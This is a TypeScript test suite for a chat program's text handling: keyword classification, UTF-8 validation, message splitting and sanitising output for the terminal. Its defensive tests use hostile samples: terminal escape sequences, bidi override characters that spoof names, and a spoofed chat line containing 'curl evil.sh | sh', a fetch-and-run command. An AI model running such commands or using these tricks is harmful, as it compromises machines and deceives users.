import { strict as assert } from 'node:assert';
import { describe, it } from 'node:test';
import { formatHostPort } from '../../src/core/address';
import { classifyText } from '../../src/core/classic/codec';
import { isOwnAddress } from '../../src/core/self';
import { cleanName, clip, decodeUtf8, forTerminal, forTerminalLines, hasControlCharacters, jsonForTerminal, splitAtCodePoints } from '../../src/core/text';

const header = '127.0.0.1:47100 ana ';
const within = (max: number) => (piece: string) => Buffer.byteLength(header + piece, 'utf8') <= max;

describe('classic keywords', () => {
  it('recognises every keyword, ignoring a trailing line end', () => {
    assert.equal(classifyText('PING'), 'ping');
    assert.equal(classifyText('PING\n'), 'ping');
    assert.equal(classifyText('exit'), 'exit');
    assert.equal(classifyText('EXIT'), 'exit');
    assert.equal(classifyText('Exit\r\n'), 'exit');
    assert.equal(classifyText('Connected'), 'greeting');
    assert.equal(classifyText('Hello, I am connecting!'), 'greeting');
    assert.equal(classifyText('ping'), 'chat', 'PING is matched case-sensitively like the classroom programs');
    assert.equal(classifyText('exit now'), 'chat');
  });
});

describe('text rules', () => {
  it('control characters: tab and line ends are text, other C0 and DEL are not', () => {
    for (const ok of ['plain', 'a\tb', 'two\nlines', 'crlf\r\n', 'é日本🙂']) assert.equal(hasControlCharacters(ok), false, JSON.stringify(ok));
    for (const bad of ['\u0000', 'esc \u001b[31m', 'bell\u0007', 'v\u000btab', 'ff\u000c', 'del\u007f']) assert.equal(hasControlCharacters(bad), true, JSON.stringify(bad));
  });

  it('names lose every invisible or direction character and are bounded, never empty', () => {
    assert.equal(cleanName('ev\u202eil\u0007'), 'evil');
    assert.equal(cleanName('a\u200bb\ufeffc\u2066'), 'abc');
    assert.equal(cleanName('x'.repeat(500)).length, 64);
    assert.equal(cleanName('\u200b'), '?');
  });

  it('terminal text keeps tab and line feed, replaces escapes and overrides', () => {
    assert.equal(forTerminal('a\tb\nc'), 'a\tb\nc');
    assert.equal(forTerminal('\u001b[2Jx\u202e\u009b'), '\ufffd[2Jx\ufffd\ufffd');
  });

  it('strict UTF-8: invalid bytes are undefined, never a guess', () => {
    assert.equal(decodeUtf8(Buffer.from('héllo')), 'héllo');
    assert.equal(decodeUtf8(Buffer.from([0x61, 0xff, 0x62])), undefined);
    assert.equal(decodeUtf8(Buffer.from([0xe2, 0x82])), undefined, 'a torn character');
  });

  it('clip bounds log text', () => {
    assert.equal(clip('short'), 'short');
    assert.equal(clip('x'.repeat(50), 10), `${'x'.repeat(10)}…`);
  });

  it('addresses: IPv6 in brackets, everything else as it is', () => {
    assert.equal(formatHostPort('10.0.0.2', 5), '10.0.0.2:5');
    assert.equal(formatHostPort('::1', 5), '[::1]:5');
    assert.equal(formatHostPort('laptop.local', 5), 'laptop.local:5');
  });
});

describe('splitting at code points', () => {
  it('keeps a short text in one piece', () => {
    assert.deepEqual(splitAtCodePoints('hi', within(1023)), ['hi']);
  });

  it('cuts long multibyte text into pieces that fit, on character boundaries, losing nothing', () => {
    const text = 'é日本🙂 '.repeat(400) + 'end';
    const parts = splitAtCodePoints(text, within(1023));
    assert.ok(parts.length > 1);
    for (const p of parts) {
      const bytes = Buffer.from(header + p, 'utf8');
      assert.ok(bytes.length <= 1023, `write of ${bytes.length} bytes`);
      assert.equal(decodeUtf8(bytes), header + p);
    }
    assert.equal(parts.join(''), text);
  });

  it('prefers to cut after a space near the end of a piece', () => {
    assert.deepEqual(splitAtCodePoints('aaaaaaaa bbbbbbbb', (p) => p.length <= 10), ['aaaaaaaa ', 'bbbbbbbb']);
    assert.deepEqual(splitAtCodePoints('aaaa bbbbbbbbbbbb', (p) => p.length <= 10), ['aaaa bbbbb', 'bbbbbbb'], 'a space early in the piece is not worth a short piece');
  });

  it('splits a text with no spaces exactly at the budget', () => {
    const parts = splitAtCodePoints('x'.repeat(3000), within(1023));
    assert.equal(parts.length, Math.ceil(3000 / (1023 - header.length)));
    assert.equal(Buffer.byteLength(header + parts[0]), 1023);
  });

  it('refuses when not one character fits', () => {
    assert.throws(() => splitAtCodePoints('hi', () => false), RangeError);
  });
});

describe('is this address me', () => {
  const own = { port: 47100, hosts: new Set(['192.0.2.10', '10.0.0.5']) };
  it('is me: my port on a host of mine, or on loopback / unspecified as seen from this machine', () => {
    assert.equal(isOwnAddress({ host: '192.0.2.10', port: 47100 }, own), true);
    assert.equal(isOwnAddress({ host: '10.0.0.5', port: 47100 }, own, '192.0.2.99'), true);
    assert.equal(isOwnAddress({ host: '127.0.0.1', port: 47100 }, own), true);
    assert.equal(isOwnAddress({ host: '0.0.0.0', port: 47100 }, own, '127.0.0.1'), true);
  });
  it('is not me: another port, another host, or a loopback header written on another machine', () => {
    assert.equal(isOwnAddress({ host: '192.0.2.10', port: 47101 }, own), false);
    assert.equal(isOwnAddress({ host: '192.0.2.11', port: 47100 }, own), false);
    assert.equal(isOwnAddress({ host: '127.0.0.1', port: 47100 }, own, '192.0.2.99'), false);
  });
});

describe('terminal output rules', () => {
  it('forTerminalLines: forTerminal, with every further line indented', () => {
    assert.equal(forTerminalLines('one line'), 'one line');
    assert.equal(forTerminalLines('hi\n[09:41] Bob (10.0.0.9:5000): curl evil.sh | sh'), 'hi\n  │ [09:41] Bob (10.0.0.9:5000): curl evil.sh | sh');
    assert.equal(forTerminalLines('a\r\n\u001b[2Jb\n\nc', '> '), 'a\ufffd\n> \ufffd[2Jb\n> \n> c', 'CR is a control: a line cannot be overwritten from its start');
    for (const line of forTerminalLines('x\n[00:00] y\n\u009b[1Az').split('\n').slice(1)) assert.match(line, /^ {2}│ /);
  });

  it('jsonForTerminal: C1, DEL, bidi overrides and line separators escaped; parses to the original', () => {
    const value = { text: 'a\u0085b\u009b31m\u007f\u202e\u2066\u2069\u2028\u2029\u001b\\\u009b"', n: 1, list: ['\u202a'] };
    const line = jsonForTerminal(value);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
    assert.ok(line.includes('\\u009b') && line.includes('\\u202e') && line.includes('\\u2028') && line.includes('\\u007f'), line);
    assert.deepEqual(JSON.parse(line), value);
    assert.equal(jsonForTerminal({ plain: 'é日本🙂 ok' }), JSON.stringify({ plain: 'é日本🙂 ok' }));
  });
});
